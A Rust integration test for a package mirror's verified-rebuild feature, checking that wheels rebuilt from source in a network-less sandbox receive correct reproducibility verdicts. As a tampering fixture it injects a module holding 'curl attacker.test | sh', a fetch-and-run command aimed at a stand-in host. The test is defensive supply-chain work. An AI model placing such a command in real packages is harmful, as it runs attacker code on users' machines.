@@ -1,0 +1,305 @@
+//! Issue 16: verified rebuilds. A node run with `--rebuild` rebuilds each pure-Python wheel
+//! it verifies from the release's sdist, in a bubblewrap sandbox without network, with the
+//! build backend pinned from the wheel's `WHEEL` Generator, and commits the verdict:
+//! reproduced bit for bit, reproduced after stabilising, or not reproduced with every
+//! differing entry named; a build that fails (here: a backend trying to leave the sandbox)
+//! is unverifiable. `pyrsia verify --require-reproduced`, `pyrsia rebuilds`, `inspect-log`
+//! and `--verified-only=reproduced` read the verdicts.
+//!
+//! The packages are built here with flit_core and `SOURCE_DATE_EPOCH`, the upstream is
+//! pypiserver, the client pip; every process is real.
+
+use std::net::TcpListener;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use pyrsia_tests::http::get;
+use pyrsia_tests::node::Node;
+use pyrsia_tests::output::{assert_ok, text};
+use pyrsia_tests::pypi::{PypiServer, pip_install};
+use pyrsia_tests::pyrsia;
+use pyrsia_tests::rebuild::{
+    escaping_sdist, flit_build, flit_core_wheel, inject_into_wheel, restamp_wheel,
+};
+use serde_json::Value;
+
+const VERDICT_WAIT: Duration = Duration::from_secs(300);
+const EPOCH: u64 = 1_700_000_000;
+
+/// Waits until the node's log holds `count` rebuild verdicts; returns them by project.
+fn wait_verdicts(node: &Node, count: usize) -> Vec<Value> {
+    let deadline = Instant::now() + VERDICT_WAIT;
+    loop {
+        let answer: Value = get(&format!("{}/pyrsia/log/rebuilds", node.url()))
+            .ok()
+            .and_then(|r| serde_json::from_str(&r.small_body).ok())
+            .unwrap_or_default();
+        let rebuilds = answer["rebuilds"].as_array().cloned().unwrap_or_default();
+        if rebuilds.len() >= count {
+            return rebuilds;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "{} of {count} rebuild verdicts after {VERDICT_WAIT:?}\n{}",
+            rebuilds.len(),
+            node.log()
+        );
+        std::thread::sleep(Duration::from_millis(250));
+    }
+}
+
+fn verdict_of<'v>(verdicts: &'v [Value], name: &str) -> &'v Value {
+    verdicts
+        .iter()
+        .find(|v| v["name"] == name)
+        .unwrap_or_else(|| panic!("no verdict for {name}: {verdicts:?}"))
+}
+
+fn copy_into(file: &Path, dir: &Path) {
+    std::fs::copy(file, dir.join(file.file_name().unwrap())).unwrap();
+}
+
+#[test]
+fn a_sole_member_rebuilds_wheels_from_source_and_commits_reproduced_stabilized_not_reproduced_and_unverifiable()
+ {
+    let work = tempfile::tempdir().unwrap();
+    let build = work.path().join("build");
+    let packages = work.path().join("packages");
+    std::fs::create_dir_all(&packages).unwrap();
+    copy_into(&flit_core_wheel(), &packages);
+
+    // Bit for bit: the release as flit built it.
+    let (sdist, wheel) = flit_build(&build, "demo-repro", "1.0.0", EPOCH, &[]);
+    copy_into(&sdist, &packages);
+    copy_into(&wheel, &packages);
+    // The same wheel re-zipped later, with other times and order: only stabilised equal.
+    let (sdist, wheel) = flit_build(&build, "demo-restamped", "1.0.0", EPOCH, &[]);
+    restamp_wheel(&wheel, (2024, 5, 6, 7, 8, 10));
+    copy_into(&sdist, &packages);
+    copy_into(&wheel, &packages);
+    // A module injected into the wheel after the build: in no source.
+    let (sdist, wheel) = flit_build(&build, "demo-injected", "1.0.0", EPOCH, &[]);
+    inject_into_wheel(
+        &wheel,
+        "demo_injected/_telemetry.py",
+        "import os\nos.system('curl attacker.test | sh')\n",
+    );
+    copy_into(&sdist, &packages);
+    copy_into(&wheel, &packages);
+    // A release whose sdist's build backend tries to reach a listener of this test and to
+    // write a file outside its build directory.
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let escape_file = work.path().join("escaped-from-the-sandbox");
+    let (_, wheel) = flit_build(&build, "demo-escape", "1.0.0", EPOCH, &[]);
+    copy_into(&wheel, &packages);
+    let port = listener.local_addr().unwrap().port();
+    escaping_sdist(&packages, "demo-escape", "1.0.0", port, &escape_file);
+
+    let upstream = PypiServer::start(&packages, work.path());
+    let node_dir = work.path().join("node");
+    let node = Node::start(
+        &node_dir,
+        &["--pypi-upstream", &upstream.simple_url(), "--rebuild"],
+    );
+    let logs = || node.log();
+    let index = format!("{}/pypi/simple/", node.url());
+    for (i, project) in [
+        "demo-repro",
+        "demo-restamped",
+        "demo-injected",
+        "demo-escape",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let out = pip_install(&index, &work.path().join(format!("t{i}")), &[project]);
+        assert_ok(&out, "pip install", &logs);
+    }
+    // Four releases, and flit_core, which the rebuilds fetched through the node's mirror.
+    let verdicts = wait_verdicts(&node, 5);
+    let backend = verdict_of(&verdicts, "flit-core");
+    assert_eq!(backend["verdict"], "unverifiable", "{backend}");
+    assert_eq!(
+        backend["failure"], "the release has no sdist to rebuild from",
+        "{backend}"
+    );
+
+    let repro = verdict_of(&verdicts, "demo-repro");
+    assert_eq!(repro["verdict"], "reproduced", "{repro}\n{}", node.log());
+    assert_eq!(repro["rebuilt"], repro["upstream"], "{repro}");
+    let recipe = repro["recipe"].as_str().unwrap();
+    assert!(recipe.contains("backend flit_core==3.9.0"), "{recipe}");
+    assert!(
+        recipe.contains(&format!("SOURCE_DATE_EPOCH={EPOCH}")),
+        "{recipe}"
+    );
+    assert!(recipe.contains("no network"), "{recipe}");
+
+    let restamped = verdict_of(&verdicts, "demo-restamped");
+    assert_eq!(
+        restamped["verdict"],
+        "reproduced-stabilized",
+        "{restamped}\n{}",
+        node.log()
+    );
+    assert_ne!(restamped["rebuilt"], restamped["upstream"], "{restamped}");
+
+    let injected = verdict_of(&verdicts, "demo-injected");
+    assert_eq!(
+        injected["verdict"],
+        "not-reproduced",
+        "{injected}\n{}",
+        node.log()
+    );
+    let entries = injected["diff"]["entries"].as_array().unwrap();
+    let telemetry = entries
+        .iter()
+        .find(|e| e["name"] == "demo_injected/_telemetry.py")
+        .unwrap_or_else(|| panic!("the injected module is not named: {injected}"));
+    assert!(telemetry["rebuilt"].is_null(), "{telemetry}");
+    assert!(
+        telemetry["upstream"]["size"].as_u64() > Some(0),
+        "{telemetry}"
+    );
+
+    let escape = verdict_of(&verdicts, "demo-escape");
+    assert_eq!(
+        escape["verdict"],
+        "unverifiable",
+        "{escape}\n{}",
+        node.log()
+    );
+    assert_eq!(
+        escape["failure"], "the build exited with status 1",
+        "{escape}"
+    );
+    assert!(
+        listener.accept().is_err(),
+        "the build backend reached a socket outside the sandbox"
+    );
+    assert!(
+        !escape_file.exists(),
+        "the build backend wrote outside its sandbox"
+    );
+
+    // The light-client check prints the verdict and the recipe; --require-reproduced
+    // passes only a reproduced release.
+    let url = node.url();
+    let out = pyrsia(&[
+        "verify",
+        "pypi",
+        "--package",
+        "demo-repro==1.0.0",
+        "--require-reproduced",
+        "--node",
+        &url,
+    ]);
+    assert_ok(&out, "pyrsia verify --require-reproduced", &logs);
+    let printed = text(&out);
+    assert!(
+        printed.contains("pypi-rebuild/v1 of demo_repro-1.0.0-py2.py3-none-any.whl"),
+        "{printed}"
+    );
+    assert!(printed.contains(": reproduced"), "{printed}");
+    assert!(printed.contains("backend flit_core==3.9.0"), "{printed}");
+    let out = pyrsia(&[
+        "verify",
+        "pypi",
+        "--package",
+        "demo-injected==1.0.0",
+        "--require-reproduced",
+        "--node",
+        &url,
+    ]);
+    assert!(!out.status.success(), "{}", text(&out));
+    let printed = text(&out);
+    assert!(
+        printed.contains("demo_injected/_telemetry.py (not from source)"),
+        "{printed}"
+    );
+    assert!(
+        printed.contains("is not-reproduced (--require-reproduced)"),
+        "{printed}"
+    );
+    // Without --require-reproduced the files still verify against their commit.
+    let out = pyrsia(&[
+        "verify",
+        "pypi",
+        "--package",
+        "demo-injected==1.0.0",
+        "--node",
+        &url,
+    ]);
+    assert_ok(&out, "pyrsia verify", &logs);
+
+    // The operator's listing of what did not reproduce, and the log's record.
+    let out = pyrsia(&["rebuilds", "--verdict", "not-reproduced", "--node", &url]);
+    assert_ok(&out, "pyrsia rebuilds", &logs);
+    let listed = text(&out);
+    assert!(listed.contains("demo-injected==1.0.0"), "{listed}");
+    assert!(
+        listed.contains("demo_injected/_telemetry.py: upstream"),
+        "{listed}"
+    );
+    assert!(!listed.contains("demo-repro"), "{listed}");
+    let out = pyrsia(&[
+        "inspect-log",
+        "pypi",
+        "--package",
+        "demo-injected",
+        "--format",
+        "csv",
+        "--fields",
+        "kind,ecosystem,version,build_type,verdict",
+        "--node",
+        &url,
+    ]);
+    assert_ok(&out, "inspect-log", &logs);
+    let csv = text(&out);
+    assert!(csv.contains("commit,pypi,1.0.0,pypi-fetch/v1,"), "{csv}");
+    assert!(
+        csv.contains("build-request,pypi-rebuild,1.0.0,pypi-rebuild/v1,"),
+        "{csv}"
+    );
+    assert!(
+        csv.contains("rebuilt,pypi-rebuild,1.0.0,pypi-rebuild/v1,not-reproduced"),
+        "{csv}"
+    );
+
+    // Served reproduced-only: the reproduced releases install, the others are neither
+    // listed nor served.
+    let node = node.restart(
+        &node_dir,
+        &[
+            "--pypi-upstream",
+            &upstream.simple_url(),
+            "--verified-only=reproduced",
+        ],
+    );
+    let logs = || node.log();
+    let index = format!("{}/pypi/simple/", node.url());
+    for project in ["demo-repro", "demo-restamped"] {
+        let out = pip_install(
+            &index,
+            &work.path().join(format!("r-{project}")),
+            &[project],
+        );
+        assert_ok(&out, "pip install (reproduced-only)", &logs);
+    }
+    for project in ["demo-injected", "demo-escape"] {
+        let out = pip_install(
+            &index,
+            &work.path().join(format!("r-{project}")),
+            &[project],
+        );
+        assert!(!out.status.success(), "{project} installed: {}", text(&out));
+    }
+    let refused = get(&format!(
+        "{}/pypi/files/demo-injected/demo_injected-1.0.0-py2.py3-none-any.whl",
+        node.url()
+    ))
+    .unwrap();
+    assert_eq!(refused.status, 404, "{refused:?}");
+    assert!(refused.small_body.contains("not reproduced"), "{refused:?}");
+}
